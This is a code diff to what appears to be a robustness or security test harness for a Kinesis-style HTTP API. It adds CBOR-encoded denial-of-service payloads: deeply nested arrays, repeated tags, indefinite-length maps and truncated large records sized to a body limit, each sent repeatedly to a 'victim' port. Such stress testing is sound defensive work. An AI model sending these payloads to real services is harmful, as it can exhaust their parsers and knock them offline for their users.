@@ -18,6 +18,8 @@ ECHO_BYTES_MAX = 64 * 1024  # of answers that an attack reads
 
 KINESIS = "Content-Type: application/x-amz-json-1.1\r\nX-Amz-Target: Kinesis_20131202."
 
+KINESIS_CBOR = KINESIS.replace("json", "cbor")
+
 
 @dataclass(frozen=True)
 class Victim:
@@ -92,6 +94,17 @@ def of(operation: str, start: bytes, unit: bytes, end: bytes) -> Callable[[Victi
         body = start + unit * ((BODY_BYTES - len(start) - len(end)) // len(unit)) + end
         for _ in range(5):
             api(operation, body)(victim)
+
+    return attack
+
+
+def in_cbor(operation: str, start: bytes, unit: bytes) -> Callable[[Victim], None]:
+    """The same in CBOR."""
+
+    def attack(victim: Victim) -> None:
+        body = start + unit * ((BODY_BYTES - len(start) - 3) // len(unit)) + b"\xff\xff\xff"
+        for _ in range(5):
+            post(victim.http_port, "/", f"{KINESIS_CBOR}{operation}\r\n", body)
 
     return attack
 
@@ -261,6 +274,20 @@ ATTACKS: dict[str, Callable[[Victim], None]] = {
     "H2 a line: escapes, twice": one_line(b'{"data":"","data":"', b'\\"', b'"}'),
     "H2 a line: emoji": one_line(b'{"data":"', "a😀".encode(), b'"}'),
     "H15 deep": api("PutRecords", b"[" * BODY_BYTES),
+    "H2 CBOR: lists": in_cbor("PutRecords", b"\x9f", b"\x80"),
+    "H2 CBOR: maps in Records": in_cbor("PutRecords", b"\xbf\x67Records\x9f", b"\xa0"),
+    "H2 CBOR: good records and too many": in_cbor(
+        "PutRecords", b"\xbf\x67Records\x9f", b"\xbf\x64Data\x41x\x6cPartitionKey\x61k\xff"
+    ),
+    "H2 CBOR: an unknown member": in_cbor("PutRecord", b"\xbf\x61X\x9f", b"\xa1\x60\x80"),
+    "H2 CBOR: data in pieces": in_cbor("PutRecord", b"\xbf\x64Data\x5f", b"\x41x"),
+    "H2 CBOR: large records, cut off": in_cbor(
+        "PutRecords",
+        b"\xbf\x67Records\x9f",
+        b"\xbf\x64Data\x59\x7d\x00%b\x6cPartitionKey\x61k\xff" % bytes(32_000),
+    ),
+    "H15 CBOR: deep": in_cbor("PutRecords", b"", b"\x9f"),
+    "H15 CBOR: tags": in_cbor("PutRecords", b"", b"\xc1"),
     "H7 first lines": first_lines,
     "H7 first lines of texts": long_numbers,
     "H3 requests, no answer read": unread_pipeline(
